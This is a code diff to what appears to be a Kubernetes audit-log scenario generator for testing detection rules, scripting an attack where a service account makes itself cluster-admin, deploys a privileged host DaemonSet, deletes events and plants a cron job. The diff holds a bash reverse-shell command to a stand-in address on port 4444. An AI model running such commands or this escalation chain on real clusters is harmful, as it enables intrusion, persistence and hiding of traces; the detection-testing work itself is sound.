@@ -26,6 +26,9 @@ _CSR: Final = "certificates.k8s.io/certificatesigningrequests"
 _OPS_LEGACY: Final = (
     'RBAC: allowed by ClusterRoleBinding "ops-legacy" of ClusterRole "ops-legacy" to ServiceAccount "api/payments"'
 )
+_IMAGE: Final = "docker.example.com/tools/tuner:latest"
+_BACK: Final = ("bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")
+_SHELL: Final = {"containers": [{"name": "rotate", "image": _IMAGE, "command": _BACK}]}
 _UNRELATED: Final = "no relationship found between node 'worker-3' and this object ({})"
 
 
@@ -72,6 +75,10 @@ class Teller:
     def rest(self, minutes: float) -> None:
         """Nothing happens for a while."""
         self.now += int(minutes * MINUTE)
+
+    def until(self, period: int) -> None:
+        """Nothing happens until the next whole `period` of microseconds."""
+        self.now += -self.now % period
 
     def _write(self, who: Identity, what: Ask) -> None:
         if what.code == 101:
@@ -141,16 +148,19 @@ def _spread(teller: Teller, api: Identity, cast: Cast) -> None:
     subject = {"kind": "ServiceAccount", "name": "api", "namespace": "payments"}
     body = bodies.encode(bodies.binding(name, "cluster-admin", subject))
     grant = Ask(f"create {_RBAC}/clusterrolebindings /{name}", 201, sent=body, answered=body)
-    teller.step("It makes itself cluster-admin", "A08 E01 E07 E16", api, [grant])
+    teller.step("It makes itself cluster-admin", "A08 E01 E03 E07 E16", api, [grant])
     _settle(teller, api, cast)
     teller.step("It takes back the binding", "E03 N12", api, [Ask(f"delete {_RBAC}/clusterrolebindings /{name}")], 60)
     traces = [Ask(f"delete core/events {place}") for place in ("payments/payments-api.1841", "kube-system/tuner.1842")]
     teller.step("It removes traces", "I01", api, traces)
+    teller.until(30 * MINUTE)
+    shell = bodies.pod("kube-system", f"log-rotate-{teller.now // MINUTE}", "Job", _SHELL)
+    run = Ask("create core/pods kube-system/", 201, sent=shell, answered=shell)
+    teller.step("The cron job opens its shell", "", cast.controller("job-controller"), [run], 0.5)
 
 
 def _settle(teller: Teller, api: Identity, cast: Cast) -> None:
-    image = "docker.example.com/tools/tuner:latest"
-    spec = bodies.host_pod_spec("node-tuner", image, "nsenter", "-t", "1", "-m", "--", "/host/opt/tuner")
+    spec = bodies.host_pod_spec("node-tuner", _IMAGE, "nsenter", "-t", "1", "-m", "--", "/host/opt/tuner")
     body = bodies.encode(bodies.workload("DaemonSet", "kube-system", "node-tuner", spec))
     daemons = Ask("create apps/daemonsets kube-system/node-tuner", 201, sent=body, answered=body)
     teller.step(
@@ -160,12 +170,10 @@ def _settle(teller: Teller, api: Identity, cast: Cast) -> None:
     wanted, *made = (bodies.pod("kube-system", "node-tuner", "DaemonSet", spec, name) for name in ("", *names))
     pods = [Ask("create core/pods kube-system/", 201, sent=wanted, answered=answered) for answered in made]
     controller = cast.controller("daemon-set-controller")
-    teller.step("The controller starts it on four nodes", "D01 D05 D06 D07 D12", controller, pods, 0.1)
-    shell = "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"
-    job = {"containers": [{"name": "rotate", "image": image, "command": ["bash", "-c", shell]}]}
-    cron = bodies.encode(bodies.cron_job("kube-system", "log-rotate", "*/30 * * * *", job))
+    teller.step("The controller starts it on four nodes", "D01 D05", controller, pods, 0.1)
+    cron = bodies.encode(bodies.cron_job("kube-system", "log-rotate", "*/30 * * * *", _SHELL))
     stay = Ask("create batch/cronjobs kube-system/log-rotate", 201, sent=cron, answered=cron)
-    teller.step("It comes back every half hour: a cron job opens a shell to the outside", "G01 N11", api, [stay], 60)
+    teller.step("It comes back every half hour: a cron job opens a shell", "C14 G01 N11", api, [stay], 60)
 
 
 def _anonymous_scan(teller: Teller, _: Cast) -> None:
@@ -245,7 +253,7 @@ def _break_glass(teller: Teller, cast: Cast) -> None:
         bodies.binding(name, "cluster-admin", subject, ticket="CHG-4711", expires="2026-03-17T08:30:00Z")
     )
     grant = Ask(f"create {_RBAC}/clusterrolebindings /{name}", 201, sent=body, answered=body)
-    teller.step("An administrator takes full rights under a ticket, from her usual place", "E01", alice, [grant])
+    teller.step("An administrator takes full rights under a ticket, from her usual place", "E01 E03", alice, [grant])
     repair = [Ask("list core/nodes"), Ask("get core/nodes /worker-2"), Ask("patch core/nodes /worker-2")]
     teller.step("She repairs a node", "", alice, repair, 60)
     teller.rest(12)
